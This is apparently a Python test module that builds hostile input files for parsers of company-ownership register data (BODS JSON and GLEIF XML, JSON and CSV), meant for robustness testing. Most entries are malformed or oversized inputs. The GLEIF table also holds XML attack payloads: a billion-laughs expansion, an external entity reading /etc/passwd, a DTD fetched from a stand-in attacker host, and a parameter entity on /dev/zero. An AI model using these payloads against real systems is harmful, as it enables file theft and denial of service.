"""Hostile files of registers: each line of the table makes one, of at most a megabyte."""

from __future__ import annotations

import json
from collections.abc import Iterable, Mapping
from functools import partial

from tests.hostile.generators import MEGABYTE, Maker, cut

XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
LEI_XML = (
    '<lei:LEIData xmlns:lei="http://www.gleif.org/data/schema/leidata/2016">'
    "<lei:LEIHeader><lei:ContentDate>2026-01-01T00:00:00Z</lei:ContentDate></lei:LEIHeader>"
    "<lei:LEIRecords>"
)
LEI_END = "</lei:LEIRecords></lei:LEIData>"


def entity(index: int, **details: object) -> dict[str, object]:
    """Return a BODS statement on a company."""
    return {
        "statementId": f"s{index}",
        "recordId": f"r{index}",
        "recordType": "entity",
        "statementDate": "2026-01-01",
        "recordDetails": {
            "entityType": {"type": "registeredEntity"},
            "name": f"Company {index}",
            "jurisdiction": {"code": "FR"},
            **details,
        },
    }


def interest(index: int, holder: object, held: object, **details: object) -> dict[str, object]:
    """Return a BODS statement on who holds what."""
    return {
        "statementId": f"i{index}",
        "recordId": f"i{index}",
        "recordType": "relationship",
        "statementDate": "2026-01-01",
        "recordDetails": {
            "subject": held,
            "interestedParty": holder,
            "interests": [{"type": "shareholding", "share": {"exact": 1}, **details}],
        },
    }


def told(statements: Iterable[object]) -> str:
    """Return statements as a file."""
    return json.dumps(list(statements), separators=(",", ":"))


def pair(**details: object) -> str:
    """Return two companies of which one holds the other."""
    return told([entity(0), entity(1), interest(0, "r1", "r0", **details)])


def bods_chain(count: int) -> str:
    """Return companies in a line, each but the first said to be held by the next."""
    stakes = (interest(i, f"r{i + 1}", f"r{i}") for i in range(count - 1))
    return told([*(entity(i) for i in range(count)), *stakes])


def bods_star(count: int) -> str:
    """Return holders of one company."""
    stakes = (interest(i, f"r{i}", "r0") for i in range(1, count))
    return told([*(entity(i) for i in range(count)), *stakes])


def bods_twins(count: int) -> str:
    """Return companies of one number, which join in steps."""

    def numbers(i: int) -> list[dict[str, str]]:
        return [{"scheme": "FR-RCS", "id": f"90000{n:06}"} for n in (i, i + 1)]

    return told(entity(i, identifiers=numbers(i)) for i in reversed(range(count)))


def bods_interests(count: int) -> str:
    """Return one relationship of very many interests."""
    statement = interest(0, "r1", "r0")
    details = statement["recordDetails"]
    assert isinstance(details, dict)
    details["interests"] = [{"type": "shareholding", "share": {"exact": 0.001}}] * count
    return told([entity(0), entity(1), statement])


def gleif_relations(count: int, kind: str) -> str:
    """Return relations in a line, in JSON."""
    records: list[object] = [
        {"LEI": f"L{i:019}", "Entity": {"LegalName": f"C{i}", "LegalJurisdiction": "FR"}}
        for i in range(count)
    ]
    records += [
        {
            "Relationship": {
                "StartNode": {"NodeID": f"L{i:019}"},
                "EndNode": {"NodeID": f"L{i + 1:019}"},
                "RelationshipType": kind,
                "RelationshipStatus": "ACTIVE",
            },
            "Registration": {"LastUpdateDate": "2026-01-01"},
        }
        for i in range(count - 1)
    ]
    return told(records)


def laughs(levels: int) -> str:
    """Return the billion laughs in XML."""
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels)
    )
    return f"{XML}<!DOCTYPE d [{entities}]><d><r><a>&l{levels - 1};</a></r></d>"


BODS: Mapping[str, Maker] = {
    "nothing": lambda: b"",
    "spaces": lambda: " " * MEGABYTE,
    "arrays": lambda: "[" * MEGABYTE,
    "objects": lambda: cut('{"a":' * MEGABYTE),
    "closed arrays": lambda: "[" * 64 + "]" * 64,
    "quotes": lambda: '"' * MEGABYTE,
    "backslashes": lambda: '"' + "\\" * (MEGABYTE - 1),
    "escapes": lambda: '["' + "\\u0041" * 166_000 + '"]',
    "surrogates": lambda: '[{"statementId": "' + "\\ud800" * 160_000 + '"}]',
    "commas": lambda: "[" + "," * 999_000 + "]",
    "zeros": lambda: "[" + "0," * 490_000 + "0]",
    "empty records": lambda: "[" + "{}," * 330_000 + "{}]",
    "empty lines of records": lambda: "{}\n" * 330_000,
    "empty lists": lambda: "[]\n" * 330_000,
    "a long number": lambda: '[{"a": ' + "9" * 999_000 + "}]",
    "a long fraction": lambda: '[{"a": 0.' + "9" * 999_000 + "}]",
    "a great number": lambda: '[{"a": 1e999999999999}]',
    "a small number": lambda: '[{"a": 1e-999999999999}]',
    "a long exponent": lambda: '[{"a": 1e' + "9" * 999_000 + "}]",
    "not a number": lambda: '[{"a": NaN}]',
    "the same key": lambda: "[{" + '"a": 1, ' * 120_000 + '"a": 1}]',
    "many keys": lambda: "[{" + ", ".join(f'"k{i}": 1' for i in range(70_000)) + "}]",
    "a long key": lambda: '[{"' + "k" * 999_000 + '": 1}]',
    "a long text": lambda: told([entity(0, name="n" * 990_000)]),
    "controls": lambda: told([entity(0, name="\x1b[31m\u202e" * 60_000)]),
    "texts of nothing": lambda: told([entity(0, name="\u200b" * 100_000)]),
    "wrong kinds": lambda: told({**entity(i), "recordDetails": 7} for i in range(7_000)),
    "unknown parties": lambda: told(interest(i, "nobody", "nowhere") for i in range(4_500)),
    "companies": lambda: told(entity(i) for i in range(4_800)),
    "one company": lambda: told([entity(0)] * 5_000),
    "chain": partial(bods_chain, 2_200),
    "star": partial(bods_star, 2_200),
    "twins": partial(bods_twins, 3_300),
    "interests": partial(bods_interests, 17_000),
    "a share of itself": lambda: pair(share={"exact": 1e308}),
    "a share of minus": lambda: pair(share={"exact": -0.0}),
    "a share of all kinds": lambda: pair(share={"minimum": 90, "maximum": 1, "exact": 500}),
    "a share of texts": lambda: pair(share={"exact": "1e999999"}),
    "days": lambda: pair(startDate="9999-99-99", endDate="0000-00-00"),
    "replacing one another": lambda: told(
        {
            "statementID": f"s{i}",
            "statementType": "entityStatement",
            "statementDate": "2026-01-01",
            "name": "N",
            "replacesStatements": [f"s{i + 1}"],
        }
        for i in range(8_000)
    ),
}
GLEIF: Mapping[str, Maker] = {
    "nothing": lambda: b"",
    "billion laughs": partial(laughs, 12),
    "an outer entity": lambda: (
        f'{XML}<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>'
    ),
    "an outer type": lambda: f'{XML}<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd"><d/>',
    "a parameter entity": lambda: (
        f'{XML}<!DOCTYPE d [<!ENTITY % p SYSTEM "file:///dev/zero"> %p;]><d/>'
    ),
    "elements within one another": lambda: cut(XML + "<a>" * MEGABYTE),
    "open signs": lambda: "<" * MEGABYTE,
    "an attribute without end": lambda: XML + '<a b="' + "x" * 990_000,
    "many attributes": lambda: XML + "<a " + " ".join(f'a{i}="1"' for i in range(70_000)) + "/>",
    "many empty elements": lambda: cut(XML + "<a><b>" + "<c/>" * 245_000) + "</b></a>",
    "a long comment": lambda: XML + "<!--" + "x" * 990_000 + "--><a/>",
    "a long instruction": lambda: XML + "<?p " + "x" * 990_000 + "?><a/>",
    "a long cdata": lambda: (
        f"{XML}{LEI_XML}<r><LEI><![CDATA[{'x' * 990_000}]]></LEI></r>{LEI_END}"
    ),
    "references": lambda: f"{XML}{LEI_XML}<r><LEI>{'&#65;' * 190_000}</LEI></r>{LEI_END}",
    "one field many times": lambda: f"{XML}{LEI_XML}<r>{'<LEI>x</LEI>' * 80_000}</r>{LEI_END}",
    "empty records": lambda: f"{XML}{LEI_XML}{'<r><a>1</a></r>' * 60_000}{LEI_END}",
    "another encoding": lambda: b'<?xml version="1.0" encoding="x-no-such"?><a/>',
    "utf-7": lambda: b'<?xml version="1.0" encoding="utf-7"?><a>+ADw-b/+AD4-</a>',
    "utf-16": lambda: (
        '<?xml version="1.0" encoding="utf-16"?><a>' + "x" * 400_000 + "</a>"
    ).encode("utf-16"),
    "zeros": lambda: b"<" + b"\0" * 999_000,
    "csv of commas": lambda: "," * MEGABYTE,
    "csv of one column": lambda: cut("a\n" * MEGABYTE),
    "csv of quotes": lambda: '"' * MEGABYTE,
    "csv of a long cell": lambda: "LEI,Entity.LegalName\n1," + "x" * 990_000,
    "csv of dots": lambda: "." * 990_000 + "\n1\n",
    "csv of a deep column": lambda: "Entity." + "a." * 400_000 + "b\n1\n",
    "csv that clashes": lambda: "Entity,Entity.LegalName\n" + "1,2\n" * 200_000,
    "csv of rows": lambda: "LEI,Entity.LegalName\n" + "L,N\n" * 200_000,
    "parents in a line": partial(gleif_relations, 2_800, "IS_DIRECTLY_CONSOLIDATED_BY"),
    "branches in a line": partial(gleif_relations, 2_800, "IS_INTERNATIONAL_BRANCH_OF"),
    "funds in a line": partial(gleif_relations, 2_800, "IS_FUND-MANAGED_BY"),
    "nested fields": lambda: '[{"Entity":' + '{"$":' * 60 + "1" + "}" * 60 + "}]",
}
